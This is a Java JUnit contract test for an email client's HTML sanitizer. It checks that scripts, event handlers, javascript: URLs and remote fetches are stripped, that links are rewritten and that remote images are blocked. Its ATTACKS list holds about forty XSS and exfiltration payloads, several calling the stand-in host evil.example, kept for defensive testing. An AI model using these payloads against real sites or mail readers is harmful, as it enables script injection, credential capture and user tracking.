package org.muniment.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.muniment.message.HtmlText.Pictures;

/** The contract of {@link HtmlText}. */
@Timeout(60)
public interface HtmlTextContract {
  /** Ways to run a script, to fetch something, or to leave the frame. */
  List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"javascript:alert(1)\">",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\" java\tscript:alert(1)\">x</a>",
          "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
          "<a href=\"vbscript:msgbox(1)\">x</a>",
          "<svg onload=alert(1)><script>alert(1)</script></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe src=\"https://evil.example/\"></iframe>",
          "<object data=\"https://evil.example/\"></object>",
          "<embed src=\"https://evil.example/\">",
          "<form action=\"https://evil.example/\"><input name=p><button>go</button></form>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
          "<base href=\"https://evil.example/\">",
          "<link rel=stylesheet href=\"https://evil.example/x.css\">",
          "<style>@import url(https://evil.example/x.css);</style>",
          "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
          "<div style=\"behavior:url(#x);-moz-binding:url(https://evil.example/)\">x</div>",
          "<td background=\"https://evil.example/x.png\">x</td>",
          "<table background=\"https://evil.example/x.png\"><tr><td>x</table>",
          "<video src=\"https://evil.example/x\" poster=\"https://evil.example/y\"></video>",
          "<audio src=\"https://evil.example/x\" autoplay></audio>",
          "<img srcset=\"https://evil.example/x 2x\">",
          "<picture><source srcset=\"https://evil.example/x\"></picture>",
          "<input type=image src=\"https://evil.example/x\">",
          "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
          "<img src=\"//evil.example/pixel.gif\">",
          "<img src=\" https://evil.example/pixel.gif\">",
          "<body background=\"https://evil.example/x\" onload=alert(1)>",
          "<!--[if mso]><img src=\"https://evil.example/x\"><![endif]-->",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<textarea></textarea><img src=x onerror=alert(1)>",
          "<template><img src=\"https://evil.example/x\"></template>",
          "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
          "<xml id=x><x xmlns:t=\"urn:schemas-microsoft-com:time\"></x></xml>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<p/onclick=alert(1)>x",
          "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>");

  /** The adapter under test. */
  HtmlText html();

  private String safe(String markup) {
    return html().safe(markup, Pictures.NONE).body().toLowerCase(Locale.ROOT);
  }

  @Test
  default void nothingThatActsOrFetchesSurvives() {
    for (String attack : ATTACKS) {
      String body = safe(attack);
      assertThat(body)
          .as(attack)
          .doesNotContain("<script", "onerror=", "onload=", "onclick=", "javascript:", "vbscript:")
          .doesNotContain("evil.example", "<iframe", "<object", "<embed", "<form", "<input")
          .doesNotContain("<meta", "<base", "<link", "<style", "<svg", "<math", "url(", "srcset")
          .doesNotContain("data:text", "data:image/svg", "position:fixed");
    }
  }

  @Test
  default void ordinaryMarkupIsKept() {
    assertThat(safe("<p>one <b>two</b> <i>three</i></p><ul><li>four</li></ul>"))
        .isEqualTo("<p>one <b>two</b> <i>three</i></p><ul><li>four</li></ul>");
    assertThat(safe("<table border=1><tr><td colspan=2 bgcolor=#ff0000>x</td></tr></table>"))
        .contains("<table border=\"1\">", "colspan=\"2\"", "bgcolor=\"#ff0000\"");
    assertThat(safe("<span style=\"color:red;font-weight:bold\">x</span>"))
        .contains("color:red", "font-weight:bold");
  }

  @Test
  default void linksOpenElsewhereAndShowWhereTheyLead() {
    String body = safe("<a href=\"https://www.example.org/a?b=c&amp;d\" title=lie>bank</a>");
    assertThat(body)
        .contains("target=\"_blank\"", "noopener", "noreferrer", ">bank</a>")
        .containsPattern("title=\"https://www.example.org/a")
        .doesNotContain("lie");
    assertThat(safe("<a href=\"mailto:a@example.org\">a</a>")).contains("mailto:a");
  }

  @Test
  default void remotePicturesAreLeftOutAndCountedUntilAskedFor() {
    String markup =
        "<img src=\"https://a.example/1.png\" alt=one><img src=\"http://a.example/2.png\">";
    SafeHtml blocked = html().safe(markup, Pictures.NONE);
    assertThat(blocked.blocked()).isEqualTo(2);
    assertThat(blocked.body()).doesNotContain("a.example").contains("alt=\"one\"");
    assertThat(blocked.contentSecurityPolicy()).contains("img-src 'self' data:;");
    SafeHtml shown = html().safe(markup, pictures(true));
    assertThat(shown.blocked()).isZero();
    assertThat(shown.body()).contains("https://a.example/1.png", "http://a.example/2.png");
    assertThat(shown.document()).contains("https: http:", "no-referrer");
  }

  @Test
  default void picturesOfTheMessageComeFromOurOwnAddress() {
    String markup = "<img src=\"cid:logo@x\"><img src=\"CID:other\">";
    assertThat(html().safe(markup, pictures(false)).body())
        .contains("src=\"/parts/logo&#64;x\"", "src=\"/parts/other\"");
    assertThat(html().safe(markup, Pictures.NONE).body()).doesNotContain("src=");
    assertThat(html().safe(markup, Pictures.NONE).blocked()).isZero();
    assertThat(safe("<img src=\"data:image/png;base64,ivborw0kggo=\">")).contains("data:image/png");
  }

  private static Pictures pictures(boolean remote) {
    return new Pictures() {
      @Override
      public @Nullable String within(String contentId) {
        return "/parts/" + contentId;
      }

      @Override
      public boolean remote() {
        return remote;
      }
    };
  }

  @Test
  default void wordsAreWhatAReaderSees() {
    String words =
        html()
            .words(
                "<html><head><title>t</title><script>var hidden</script><style>.styled{}</style>"
                    + "</head><body>Gr&uuml;&szlig;e <b>korn</b>blume<br>line&nbsp;two<p>three</p>"
                    + "<td>four</td><td>five</td><img alt=\"six\"> se&shy;ven</body></html>");
    assertThat(words.split("\\s+"))
        .containsExactly(
            "Grüße", "kornblume", "line", "two", "three", "four", "five", "six", "seven");
  }

  @Test
  default void plainTextIsQuotedLinkedAndHarmless() {
    String body =
        html()
            .ofPlain("hi <b>\n> one\n>> two\nsee https://example.org/a?b=c&d=\"e\", yes\n>From me")
            .body();
    assertThat(body)
        .contains("hi &lt;b&gt;\n")
        .contains("<blockquote>one\n<blockquote>two\n</blockquote></blockquote>see ")
        .contains("href=\"https://example.org/a?b=c&amp;d=")
        .contains("rel=\"noopener noreferrer nofollow\"")
        .contains("&gt;From me")
        .doesNotContain("<b>", "\"e\"");
  }

  @Test
  default void malformedAndHugeMarkupEndsInTime() {
    for (String piece : List.of("<div>", "<", "<a href=\"", "&", "</p>", "<table><tr><td>", "> ")) {
      String huge = piece.repeat(100_000);
      assertThat(html().words(huge)).isNotNull();
      assertThat(html().safe(huge, Pictures.NONE)).isNotNull();
      assertThat(html().ofPlain(huge)).isNotNull();
    }
  }
}
